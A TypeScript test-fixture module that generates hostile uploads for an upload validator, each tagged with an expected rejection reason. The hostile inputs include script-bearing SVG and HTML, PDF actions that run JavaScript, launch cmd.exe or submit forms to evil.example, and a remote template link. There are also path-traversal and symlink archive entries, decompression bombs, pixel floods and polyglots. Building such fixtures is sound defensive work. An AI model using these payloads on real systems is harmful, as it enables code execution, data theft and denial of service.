// Files as people send them, and as nobody should: all made here, none copied from anywhere.
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import yazl from 'yazl';

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** One entry of an archive that is made. */
export interface MadeEntry { readonly name: string; readonly text: string | Buffer; readonly mode?: number; readonly stored?: boolean }

/** An archive of these entries. */
export async function zipOf(entries: readonly MadeEntry[]): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const { name, text, mode = 0o100644, stored = false } of entries) zip.addBuffer(Buffer.from(text as string), name, { mode, compress: !stored });
  zip.end();
  const parts: Buffer[] = [];
  for await (const part of zip.outputStream) parts.push(part as Buffer);
  return Buffer.concat(parts);
}

/** The parts of a small Word document that says who wrote it; `more` is added, or stands instead. */
export function wordParts(more: readonly MadeEntry[] = [], contentType = `${WORD}.main+xml`): MadeEntry[] {
  const parts: MadeEntry[] = [
    { name: '[Content_Types].xml', text: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${contentType}"/></Types>` },
    { name: '_rels/.rels', text: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>` },
    { name: 'word/document.xml', text: `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Statement</w:t></w:r></w:p></w:body></w:document>` },
    { name: 'docProps/core.xml', text: `${XML}<cp:coreProperties xmlns:cp="x" xmlns:dc="y"><dc:creator>Secret Author</dc:creator></cp:coreProperties>` },
  ];
  const names = new Set(more.map(({ name }) => name));
  return [...parts.filter(({ name }) => !names.has(name)), ...more];
}

/** A Word document. */
export const word = async (more: readonly MadeEntry[] = [], contentType?: string): Promise<Buffer> => zipOf(wordParts(more, contentType));

/** An OpenDocument text. */
export async function openDocument(more: readonly MadeEntry[] = []): Promise<Buffer> {
  const names = new Set(more.map(({ name }) => name));
  const parts: MadeEntry[] = [
    { name: 'mimetype', text: 'application/vnd.oasis.opendocument.text', stored: true },
    { name: 'content.xml', text: `${XML}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>` },
    { name: 'meta.xml', text: `${XML}<office:document-meta><meta:initial-creator>Secret Author</meta:initial-creator></office:document-meta>` },
    { name: 'META-INF/manifest.xml', text: `${XML}<manifest:manifest xmlns:manifest="m"/>` },
  ];
  return zipOf([...parts.filter(({ name }) => !names.has(name)), ...more]);
}

/** A photograph with a place and a device in its EXIF. */
export const photograph = async (width = 640, height = 480): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, noise: { type: 'gaussian', mean: 120, sigma: 40 } } as never }).jpeg()
    .withExif({ IFD0: { Make: 'SecretCamera', Artist: 'Secret Author' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '35/1 41/1 0/1' } }).toBuffer();

/** A plain picture. */
export const picture = async (format: 'png' | 'webp' | 'jpeg' = 'png', width = 320, height = 200): Promise<Buffer> => sharp({ create: { width, height, channels: 3, background: '#204060' } }).toFormat(format).toBuffer();

/** A PDF of some pages that says who made it; `change` does what it wants before it is written. */
export async function pdf(pages = 2, change: (document: PDFDocument) => void | Promise<void> = () => undefined): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.setAuthor('Secret Author');
  document.setTitle('Secret Title');
  for (let page = 0; page < pages; page += 1) document.addPage([595, 842]).drawText(`Page ${page + 1}`, { x: 50, y: 780 });
  await change(document);
  return Buffer.from(await document.save());
}

const action = (document: PDFDocument, dict: object): void => document.catalog.set(PDFName.of('OpenAction'), document.context.obj(dict as never));
const u32 = (n: number): Buffer => { const bytes = Buffer.alloc(4); bytes.writeUInt32BE(n); return bytes; };
const chunk = (type: string, data: Buffer): Buffer => { const body = Buffer.concat([Buffer.from(type), data]); return Buffer.concat([u32(data.length), body, u32(crc32(body))]); };
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
/** A picture that says it is that large, and holds next to nothing. */
const flood = (side: number): Buffer => Buffer.concat([PNG, chunk('IHDR', Buffer.concat([u32(side), u32(side), Buffer.from([8, 2, 0, 0, 0])])), chunk('IDAT', deflateSync(Buffer.alloc(1_000))), chunk('IEND', Buffer.alloc(0))]);
const renamed = (zip: Buffer, from: string, to: string): Buffer => Buffer.from(zip.toString('latin1').replaceAll(from, to), 'latin1');

/** Marks every entry of an archive as encrypted. */
function encryptedBits(zip: Buffer): Buffer {
  const bytes = Buffer.from(zip);
  for (const [signature, at] of [['PK\x03\x04', 6], ['PK\x01\x02', 8]] as const) {
    for (let found = bytes.indexOf(signature, 0, 'latin1'); found >= 0; found = bytes.indexOf(signature, found + 4, 'latin1')) bytes[found + at] = (bytes[found + at] ?? 0) | 1;
  }
  return bytes;
}

/** A PDF whose store of objects unpacks to gigabytes for each megabyte. */
function bombPdf(): Buffer {
  const packed = deflateSync(Buffer.alloc(200_000_000));
  return Buffer.concat([Buffer.from(`%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`), packed, Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n')]);
}

const rels = (text: string): MadeEntry => ({ name: 'word/_rels/document.xml.rels', text: `${XML}<Relationships>${text}</Relationships>` });

/** A file that must not be taken: its name, its bytes, and the reason. */
export interface HostileFile { readonly what: string; readonly name: string; readonly bytes: Buffer; readonly why: string }

/** All that nobody should send. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const file = (what: string, name: string, bytes: Buffer | string, why: string): HostileFile => ({ what, name, bytes: Buffer.from(bytes as string), why });
  const [png, jpeg, plainPdf, zip] = [await picture(), await photograph(), await pdf(), await zipOf([{ name: 'a.txt', text: 'x' }])];
  const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)]);
  return [
    file('an SVG with a script, called a picture', 'map.png', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'SVG'),
    file('an SVG behind an XML declaration and a comment', 'map.jpg', `${XML}<!-- map -->\n<svg onload="alert(1)"/>`, 'SVG'),
    file('a web page called a PDF', 'report.pdf', '<!DOCTYPE html><html><script>alert(1)</script></html>', 'HTML'),
    file('a web page in UTF-16', 'report.pdf', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<html><body>', 'utf16le')]), 'HTML'),
    file('a program', 'report.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), 'TYPE_NOT_ALLOWED'),
    file('plain text', 'notes.docx', 'only text', 'TYPE_NOT_ALLOWED'),
    file('an old Word document', 'notes.docx', compound, 'TYPE_NOT_ALLOWED'),
    file('a PNG called JPEG', 'photo.jpg', png, 'WRONG_EXTENSION'),
    file('a PDF called DOCX', 'notes.docx', plainPdf, 'WRONG_EXTENSION'),
    file('a Word document called XLSX', 'list.xlsx', await word(), 'WRONG_EXTENSION'),
    file('an OpenDocument called DOCX', 'notes.docx', await openDocument(), 'WRONG_EXTENSION'),
    file('any archive called DOCX', 'notes.docx', zip, 'WRONG_EXTENSION'),
    file('a document with macros', 'notes.docx', await word([{ name: 'word/vbaProject.bin', text: 'x' }]), 'MACROS'),
    file('a document that says it has macros', 'notes.docx', await word([], 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'MACROS'),
    file('an OpenDocument with macros', 'notes.odt', await openDocument([{ name: 'Basic/Standard/Module1.xml', text: XML }]), 'MACROS'),
    file('a 1:1000 archive', 'notes.docx', await word([{ name: 'word/big.xml', text: Buffer.alloc(30_000_000, 0x20) }]), 'BOMB'),
    file('an archive in a document', 'notes.docx', await word([{ name: 'word/embeddings/a.zip', text: zip }]), 'NESTED_ARCHIVE'),
    file('an archive in a document, under another name', 'notes.docx', await word([{ name: 'word/media/a.bin', text: zip }]), 'NESTED_ARCHIVE'),
    file('a document in a document', 'notes.docx', await word([{ name: 'word/embeddings/Sheet1.xlsx', text: zip }]), 'NESTED_ARCHIVE'),
    file('a symbolic link', 'notes.docx', await word([{ name: 'word/link.xml', text: '/etc/passwd', mode: 0o120777 }]), 'SYMLINK'),
    file('a name that leads up', 'notes.docx', renamed(await word([{ name: 'aa/aa/evil.xml', text: XML }]), 'aa/aa/evil.xml', '../../evil.xml'), 'UNSAFE_PATH'),
    file('an absolute name', 'notes.docx', renamed(await word([{ name: 'aetc/evil.xml', text: XML }]), 'aetc/evil.xml', '/etc/evil.xml'), 'UNSAFE_PATH'),
    file('an archive with a password', 'notes.docx', encryptedBits(await word()), 'ENCRYPTED'),
    file('a document with a password', 'notes.docx', Buffer.concat([compound, Buffer.from('EncryptedPackage', 'utf16le')]), 'ENCRYPTED'),
    file('an OpenDocument with a password', 'notes.odt', await openDocument([{ name: 'META-INF/manifest.xml', text: `${XML}<manifest:encryption-data/>` }]), 'ENCRYPTED'),
    file('an SVG in a document', 'notes.docx', await word([{ name: 'word/media/a.svg', text: '<svg/>' }]), 'SVG'),
    file('a template from elsewhere', 'notes.docx', await word([rels('<Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>')]), 'ACTIVE_CONTENT'),
    file('an object from elsewhere', 'notes.docx', await word([{ name: 'word/embeddings/oleObject1.bin', text: 'x' }]), 'ACTIVE_CONTENT'),
    file('entities that grow', 'notes.docx', await word([{ name: 'word/more.xml', text: `${XML}<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>` }]), 'ACTIVE_CONTENT'),
    file('a PDF with JavaScript', 'report.pdf', await pdf(1, (document) => action(document, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })), 'ACTIVE_CONTENT'),
    file('a PDF that launches', 'report.pdf', await pdf(1, (document) => action(document, { S: 'Launch', F: PDFString.of('cmd.exe') })), 'ACTIVE_CONTENT'),
    file('a PDF that carries a file', 'report.pdf', await pdf(1, (document) => document.attach(Buffer.from('MZ'), 'a.exe')), 'ACTIVE_CONTENT'),
    file('a PDF whose form sends', 'report.pdf', await pdf(1, (document) => action(document, { S: 'SubmitForm', F: PDFString.of('https://evil.example') })), 'ACTIVE_CONTENT'),
    file('a PDF with a password', 'report.pdf', await pdf(1, (document) => { document.context.trailerInfo.Encrypt = document.context.obj({ Filter: 'Standard' }); }), 'ENCRYPTED'),
    file('a PDF that unpacks to gigabytes', 'report.pdf', bombPdf(), 'BOMB'),
    file('a PDF that was cut off', 'report.pdf', plainPdf.subarray(0, 300), 'MALFORMED'),
    file('a picture that is an archive', 'map.png', Buffer.concat([png, zip]), 'POLYGLOT'),
    file('a photograph that is a PDF', 'photo.jpg', Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, 12]), Buffer.from('%PDF-1.4\n\n'), jpeg.subarray(2)]), 'POLYGLOT'),
    file('a picture that is a web page', 'map.png', Buffer.concat([png.subarray(0, 33), chunk('tEXt', Buffer.from('a\0<html><script>alert(1)</script>')), png.subarray(33)]), 'POLYGLOT'),
    file('a PDF that is an archive', 'report.pdf', Buffer.concat([plainPdf, zip]), 'POLYGLOT'),
    file('a PDF behind something else', 'report.pdf', Buffer.concat([Buffer.from('\x00\x01\x02junk'), plainPdf]), 'TYPE_NOT_ALLOWED'),
    file('a flood of pixels', 'map.png', flood(30_000), 'TOO_MANY_PIXELS'),
    file('a flood of pixels in a document', 'notes.docx', await word([{ name: 'word/media/a.png', text: flood(30_000), stored: true }]), 'TOO_MANY_PIXELS'),
    file('a photograph that was cut off', 'photo.jpg', jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'MALFORMED'),
    file('a picture with nothing in it', 'map.png', png.subarray(0, 40), 'MALFORMED'),
  ];
}
